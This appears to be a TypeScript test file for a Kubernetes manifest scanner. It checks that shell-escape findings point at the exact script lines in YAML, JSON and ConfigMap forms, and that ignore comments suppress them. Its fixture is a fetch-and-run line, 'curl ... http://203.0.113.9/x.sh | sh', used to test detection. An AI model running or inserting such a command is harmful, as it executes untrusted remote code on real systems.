/**
 * A finding inside a multi-line script points at the offending line(s), however the script is written:
 * a literal or folded block scalar, a quoted or plain multi-line scalar, a JSON string with \n escapes,
 * CRLF line ends, a ConfigMap key.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseManifest, type Finding } from '../src/index.js';
import { scriptLineSpan } from '../src/yaml/script-lines.ts';

const CURL = 'curl -fsSL http://203.0.113.9/x.sh | sh';

function shellEscape(text: string, fileName = 'lines.yaml'): Finding {
  const [finding] = analyseManifest(text, fileName).findings.filter((f) => f.indicator === 'shell-escape');
  assert.ok(finding, 'expected a shell-escape finding');
  return finding;
}

/** The source text a finding covers. */
function covered(text: string, finding: Finding): string {
  return text.slice(finding.span!.start, finding.span!.end);
}

/** A Job whose one container runs `sh -c` with args[0] written as `args` (YAML lines at 4 spaces). */
function jobWithArgs(args: string): string {
  return ['apiVersion: batch/v1', 'kind: Job', 'metadata: {name: j}', 'spec:', '  template:', '    spec:', '      restartPolicy: Never', '      containers:', '      - name: c', '        image: registry.example/a:1', '        command: ["/bin/sh", "-c"]', '        args:', args, ''].join('\n');
}

describe('script lines in findings', () => {
  it('a literal block: the one line, at its own line number', () => {
    const text = jobWithArgs(`        - |\n          set -e\n          ${CURL}\n          echo done`);
    const finding = shellEscape(text);
    assert.equal(covered(text, finding), CURL);
    assert.equal(finding.range!.start.line, 15);
    assert.equal(finding.range!.end.line, 15);
  });

  it('a command continued over lines: every line it spans, and no more', () => {
    const text = jobWithArgs('        - |\n          set -e\n          curl -fsSL \\\n            http://203.0.113.9/x.sh | sh\n          echo done');
    assert.equal(covered(text, shellEscape(text)), 'curl -fsSL \\\n            http://203.0.113.9/x.sh | sh');
  });

  it('a folded block: the source line of the command', () => {
    const text = jobWithArgs(`        - >\n          set -e\n\n          ${CURL}\n\n          echo done`);
    const finding = shellEscape(text);
    assert.equal(covered(text, finding), CURL);
    assert.equal(finding.range!.start.line, 16);
  });

  it('CRLF line ends', () => {
    const text = jobWithArgs(`        - |\n          set -e\n          ${CURL}\n          echo done`).replace(/\n/g, '\r\n');
    const finding = shellEscape(text);
    assert.equal(covered(text, finding), CURL);
    assert.equal(finding.range!.start.line, 15);
  });

  it('a double-quoted scalar with \\n escapes, and one with real line breaks', () => {
    const escaped = jobWithArgs(`        - "set -e\\n${CURL}\\necho \\"done\\""`);
    assert.equal(covered(escaped, shellEscape(escaped)), CURL);
    const broken = jobWithArgs(`        - "set -e\n\n          ${CURL}\n\n          echo done"`);
    assert.equal(covered(broken, shellEscape(broken)), CURL);
  });

  it("a single-quoted scalar with '' quotes", () => {
    const text = jobWithArgs(`        - 'echo ''start''\n\n          ${CURL}'`);
    assert.equal(covered(text, shellEscape(text)), CURL);
  });

  it('a JSON string with \\n escapes: the command inside the string, on its line', () => {
    const manifest = {
      apiVersion: 'batch/v1',
      kind: 'Job',
      metadata: { name: 'j' },
      spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'c', image: 'registry.example/a:1', command: ['/bin/sh', '-c', `set -e\n${CURL}\necho done`] }] } } },
    };
    const text = JSON.stringify(manifest, null, 2);
    const finding = shellEscape(text, 'lines.json');
    assert.equal(covered(text, finding), CURL);
  });

  it('a one-line script keeps the whole value', () => {
    const text = jobWithArgs(`        - "${CURL}"`);
    assert.equal(covered(text, shellEscape(text)), CURL);
  });

  it('a ConfigMap script: the offending line under its key', () => {
    const text = [
      'apiVersion: v1',
      'kind: ConfigMap',
      'metadata: {name: scripts}',
      'data:',
      '  run.sh: |',
      '    #!/bin/sh',
      `    ${CURL}`,
      '---',
      'apiVersion: batch/v1',
      'kind: Job',
      'metadata: {name: j}',
      'spec:',
      '  template:',
      '    spec:',
      '      restartPolicy: Never',
      '      containers:',
      '      - {name: c, image: registry.example/a:1, command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}',
      '      volumes:',
      '      - {name: s, configMap: {name: scripts}}',
      '',
    ].join('\n');
    const finding = shellEscape(text);
    assert.equal(covered(text, finding), CURL);
    assert.equal(finding.range!.start.line, 7);
  });
});

describe('suppressing a finding on a script line', () => {
  it('a comment at the scalar (after the block header, or on the line above it) covers its lines', () => {
    for (const args of [`        - | # jobsentinel-ignore: shell-escape\n          set -e\n          ${CURL}`, `        # jobsentinel-ignore: shell-escape\n        - "set -e\\n${CURL}"`]) {
      const result = analyseManifest(jobWithArgs(args), 'lines.yaml');
      assert.deepEqual(result.findings.filter((f) => f.indicator === 'shell-escape'), [], args);
      assert.equal(result.suppressed.filter((f) => f.indicator === 'shell-escape').length, 1, args);
    }
  });

  it('a comment elsewhere does not', () => {
    const text = jobWithArgs(`        - |\n          set -e\n          ${CURL}`).replace('        args:', '        # jobsentinel-ignore: shell-escape\n        workingDir: /tmp\n        args:');
    assert.equal(analyseManifest(text, 'lines.yaml').findings.filter((f) => f.indicator === 'shell-escape').length, 1);
  });
});

describe('scriptLineSpan', () => {
  it('is undefined when the value cannot be found in the source, or the span is outside it', () => {
    const source = 'x: |\n  a\n  b\n';
    const scalar = { start: 3, end: source.length };
    assert.equal(scriptLineSpan(source, scalar, 'a\nzzz\n', { start: 2, end: 5 }), undefined);
    assert.equal(scriptLineSpan(source, scalar, 'a\nb\n', { start: 10, end: 12 }), undefined);
    assert.deepEqual(scriptLineSpan(source, scalar, 'a\nb\n', { start: 2, end: 3 }), { start: source.indexOf('b'), end: source.indexOf('b') + 1 });
  });

  it('stays linear on a long script', () => {
    const lines = Array.from({ length: 50_000 }, (_, index) => `echo ${index}`);
    const value = lines.join('\n') + '\n';
    const source = 'x: |\n' + lines.map((line) => '  ' + line).join('\n') + '\n';
    const at = value.indexOf('echo 49999');
    const span = scriptLineSpan(source, { start: 3, end: source.length }, value, { start: at, end: at + 10 });
    assert.equal(source.slice(span!.start, span!.end), 'echo 49999');
  });
});
